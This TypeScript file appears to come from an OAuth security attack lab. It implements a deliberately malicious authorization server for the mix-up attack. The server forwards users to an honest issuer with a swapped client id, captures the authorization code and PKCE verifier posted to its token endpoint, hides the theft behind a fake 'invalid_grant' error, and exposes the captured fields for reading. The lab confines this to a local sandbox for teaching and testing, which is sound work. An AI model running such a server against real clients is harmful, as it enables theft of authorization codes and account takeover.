/**
 * The attack lab's mix-up attacker: a small, deliberately malicious authorization server at
 * `/attack-lab/mixup-as`, for the mix-up attack (RFC 9700 §4.4). It publishes its own discovery
 * document; its authorization endpoint sends the browser on to the honest standards issuer
 * (`/standard`) with the client's id there, so the user signs in at the honest server; its token
 * endpoint keeps whatever a client sends it (the honest server's code and the PKCE verifier), and the
 * attacker reads that back. Everything stays on the sandbox; CORS for local app origins only.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AttackLab } from './attack-lab.ts';
import { readBody, sendJson, sendRedirect } from './http-utils.ts';

import { MIX_UP_AS_PATH, MIX_UP_HONEST_CLIENT_ID } from '../../src/flows/attacks/mix-up-server.ts';

/** Path prefix of the attacker's authorization server, which is also its issuer's path. */
export const MIX_UP_AS_PREFIX = MIX_UP_AS_PATH;

/** What the attacker's token endpoint received from a client. */
interface Capture {
  readonly receivedAt: string;
  /** When it stops being shown (ms since the epoch): longer than a run takes. */
  readonly until: number;
  readonly fields: Record<string, string>;
}

// One capture per sandbox (keyed by its attack lab), replaced by the next, read once, gone after 2 min.
const CAPTURE_TTL_MS = 120_000;
/** The name of the attacker's capture among the attack lab's records (AttackLab.keep). */
const CAPTURE_RECORD = 'mix-up-capture';

const LOCAL_ORIGIN = /^http:\/\/(localhost|127\.0\.0\.1|\[::1\])(:\d{1,5})?$/;

function corsHeaders(origin: string | undefined): Record<string, string> {
  return origin !== undefined && LOCAL_ORIGIN.test(origin)
    ? { 'access-control-allow-origin': origin, vary: 'Origin', 'cache-control': 'no-store' }
    : { vary: 'Origin', 'cache-control': 'no-store' };
}

/** What the attacker's server needs from the running sandbox. */
export interface MixUpState {
  readonly attackLab: AttackLab;
  /** The sandbox's origin: the attacker's issuer is `${origin}${MIX_UP_AS_PREFIX}`. */
  readonly origin: string;
  /** The honest standards issuer, whose authorization endpoint the attacker forwards to. */
  readonly honestIssuer: string;
}

/** The attacker server's discovery document (RFC 8414 §2 / OIDC Discovery §3 fields). */
export function mixUpMetadata(origin: string): Record<string, unknown> {
  const issuer = `${origin}${MIX_UP_AS_PREFIX}`;
  return {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    jwks_uri: `${issuer}/jwks`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['none'],
    scopes_supported: ['openid'],
    subject_types_supported: ['public'],
    id_token_signing_alg_values_supported: ['RS256'],
    // It claims to follow RFC 9207 too: the claim costs the attacker nothing.
    authorization_response_iss_parameter_supported: true,
  };
}

/** Handles one request below {@link MIX_UP_AS_PREFIX}. */
export async function handleMixUpRequest(
  state: MixUpState,
  req: IncomingMessage,
  res: ServerResponse,
  url: URL,
): Promise<void> {
  const headers = corsHeaders(req.headers.origin);
  const reply = (status: number, body: unknown): void => sendJson(res, status, body, headers);
  const method = req.method ?? 'GET';
  const path = url.pathname.slice(MIX_UP_AS_PREFIX.length);
  if (method === 'OPTIONS') {
    res
      .writeHead(204, {
        ...headers,
        'access-control-allow-methods': 'GET, POST',
        'access-control-allow-headers': 'content-type, accept',
        'access-control-max-age': '600',
      })
      .end();
    return;
  }
  if (
    (path === '/.well-known/openid-configuration' || path === '/.well-known/oauth-authorization-server') &&
    method === 'GET'
  )
    return reply(200, mixUpMetadata(state.origin));
  if (path === '/jwks' && method === 'GET') return reply(200, { keys: [] });
  if (path === '/authorize' && method === 'GET') {
    // RFC 9700 §4.4.1: the attacker's server sends the user on to the honest one, with the client's id
    // there; every other parameter (redirect_uri, state, PKCE challenge) goes as the client sent it.
    const forward = new URLSearchParams(url.search);
    forward.set('client_id', MIX_UP_HONEST_CLIENT_ID);
    return sendRedirect(res, `${state.honestIssuer}/auth?${forward.toString()}`);
  }
  if (path === '/token' && method === 'POST') {
    const fields = Object.fromEntries(new URLSearchParams((await readBody(req)).toString('utf8')));
    const now = Date.now();
    const capture: Capture = { receivedAt: new Date(now).toISOString(), until: now + CAPTURE_TTL_MS, fields };
    // Kept in the tenant's shared store: the run may ask another sandbox instance what was captured.
    await state.attackLab.keep(CAPTURE_RECORD, capture, CAPTURE_TTL_MS);
    // The answer hardly matters: the attacker has what they came for. A refusal looks like a glitch.
    return reply(400, {
      error: 'invalid_grant',
      error_description: 'The code is invalid or has expired. Please sign in again.',
    });
  }
  if (path === '/captured' && method === 'GET') {
    const capture = await state.attackLab.take<Capture>(CAPTURE_RECORD);
    if (capture === undefined || capture.until <= Date.now()) return reply(200, { captured: false });
    return reply(200, { captured: true, receivedAt: capture.receivedAt, fields: capture.fields });
  }
  reply(404, {
    error: 'not_found',
    error_description: `No endpoint of the attacker’s server at ${url.pathname}.`,
  });
}
